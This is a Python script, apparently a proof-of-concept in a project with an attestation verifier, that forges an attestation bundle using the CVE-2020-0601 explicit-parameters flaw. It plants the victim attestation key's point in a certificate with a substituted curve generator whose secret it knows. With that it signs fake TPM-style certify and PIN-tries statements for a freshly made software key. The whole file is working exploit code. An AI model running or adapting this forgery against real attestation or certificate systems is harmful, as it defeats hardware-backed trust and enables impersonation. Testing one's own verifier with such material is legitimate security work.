#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""other_generator.py BUNDLE FORGED NONCE: makes a bundle for a key in software that is signed, to all appearance,
by the attestation key of BUNDLE. Its certificate has that key's point, and names another generator of the curve
(explicit parameters), under which the private key is known here: the flaw of CVE-2020-0601."""

import base64
import datetime
import hashlib
import json
import os
import secrets
import sys
import textwrap

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "clients"))
import attestation_verifier as verifier  # noqa: E402

# P-256, SEC 2 section 2.4.2.
P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
A = P - 3
B = 0x5AC635D8AA3A93E7B3EBBD55769886BC651D06B0CC53B0F63BCE3C3E27D2604B
N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def add(left, right):
    if left is None or right is None:
        return left or right
    if left[0] == right[0] and (left[1] + right[1]) % P == 0:
        return None
    slope = ((3 * left[0] ** 2 + A) * pow(2 * left[1], -1, P) if left == right
             else (right[1] - left[1]) * pow(right[0] - left[0], -1, P))
    x = (slope * slope - left[0] - right[0]) % P
    return x, (slope * (left[0] - x) - left[1]) % P


def times(factor, point):
    result = None
    while factor:
        if factor & 1:
            result = add(result, point)
        point, factor = add(point, point), factor >> 1
    return result


def der(tag, content):
    size = len(content)
    length = bytes([size]) if size < 128 else bytes([0x82]) + size.to_bytes(2, "big")
    return bytes([tag]) + length + content


def integer(number):
    return der(0x02, number.to_bytes(number.bit_length() // 8 + 1, "big"))


def octets(number):
    return number.to_bytes(32, "big")


def encoded(point):
    return b"\x04" + octets(point[0]) + octets(point[1])


def elements(content):
    """The encoded elements of a constructed DER value."""
    found, position = [], 0
    while position < len(content):
        length, head = content[position + 1], 2
        if length & 0x80:
            head += length & 0x7F
            length = int.from_bytes(content[position + 2:position + head], "big")
        found.append(content[position:position + head + length])
        position += head + length
    return found


def inside(element):
    return element[2 + (element[1] & 0x7F if element[1] & 0x80 else 0):]


class Forger:
    """Signs under a generator of its own choice, so that the point of a foreign key is its own public key."""

    def __init__(self, point):
        self.secret = 1 + secrets.randbelow(N - 1)
        self.generator = times(pow(self.secret, -1, N), point)
        parameters = der(0x30, integer(1) + der(0x30, bytes.fromhex("06072A8648CE3D0101") + integer(P))
                         + der(0x30, der(0x04, octets(A)) + der(0x04, octets(B)))
                         + der(0x04, encoded(self.generator)) + integer(N) + integer(1))
        self.key_info = der(0x30, der(0x30, bytes.fromhex("06072A8648CE3D0201") + parameters)
                            + der(0x03, b"\x00" + encoded(point)))

    def sign(self, data):
        digest = int.from_bytes(hashlib.sha256(data).digest(), "big")
        nonce = 1 + secrets.randbelow(N - 1)
        r = times(nonce, self.generator)[0] % N
        return der(0x30, integer(r) + integer(pow(nonce, -1, N) * (digest + r * self.secret) % N))

    def certificate(self, key, extensions, key_info=None):
        """A certificate for `key`, or with `key_info` in its place, signed anew."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "forged")])
        builder = x509.CertificateBuilder(
            issuer_name=name, subject_name=name, public_key=key.public_key(), serial_number=1,
            not_valid_before=datetime.datetime(2026, 1, 1), not_valid_after=datetime.datetime(2090, 1, 1))
        for extension in extensions:
            builder = builder.add_extension(extension, critical=False)
        whole = builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
        body, algorithm, _ = elements(inside(whole))
        parts = elements(inside(body))
        parts[6] = key_info or parts[6]  # subjectPublicKeyInfo, RFC 5280 section 4.1
        body = der(0x30, b"".join(parts))
        made = der(0x30, body + algorithm + der(0x03, b"\x00" + self.sign(body)))
        lines = textwrap.wrap(base64.b64encode(made).decode(), 64)
        return "\n".join(["-----BEGIN CERTIFICATE-----", *lines, "-----END CERTIFICATE-----", ""])


def sized(data):
    return len(data).to_bytes(2, "big") + data


def main():
    source, target, nonce = sys.argv[1:]
    with open(source) as file:
        bundle = json.load(file)
    parts = verifier.parts_of(x509.load_pem_x509_certificate(bundle["certificate"].encode()))
    attestation = parts["attestation_key"]  # its public area stays as it is, and so does its Name
    point = (int.from_bytes(attestation[-66:-34], "big"), int.from_bytes(attestation[-32:], "big"))
    forger, key = Forger(point), ec.generate_private_key(ec.SECP256R1())
    numbers = key.public_key().public_numbers()
    key_area = parts["key"][:-68] + b"".join(sized(octets(n)) for n in (numbers.x, numbers.y))

    def qualified(area):
        return verifier.name_of(parts["parent"] + verifier.name_of(area))

    def statement(kind, subject):
        return (b"\xffTCG" + kind.to_bytes(2, "big") + sized(qualified(attestation)) + sized(bytes.fromhex(nonce))
                + bytes(25) + subject)

    attest = statement(verifier.CERTIFY, sized(verifier.name_of(key_area)) + sized(qualified(key_area)))
    fields = (der(0x02, parts["version"]) + der(0x04, attest) + der(0x04, forger.sign(attest))
              + der(0x04, key_area) + der(0x04, parts["pin_index"]) + der(0x0A, parts["pin_policy"])
              + der(0x04, attestation) + der(0x04, parts["parent"]))
    tries = statement(verifier.CERTIFY_NV, sized(verifier.name_of(parts["pin_index"])) + bytes(2)
                      + sized(bytes(7) + b"\x03"))
    bundle.update(
        authority=forger.certificate(key, [], forger.key_info),
        certificate=forger.certificate(key, [x509.UnrecognizedExtension(verifier.STATEMENT, der(0x30, fields))]),
        tries={"attest": base64.b64encode(tries).decode(),
               "signature": base64.b64encode(forger.sign(tries)).decode()})
    with open(target, "w") as file:
        json.dump(bundle, file)


if __name__ == "__main__":
    main()
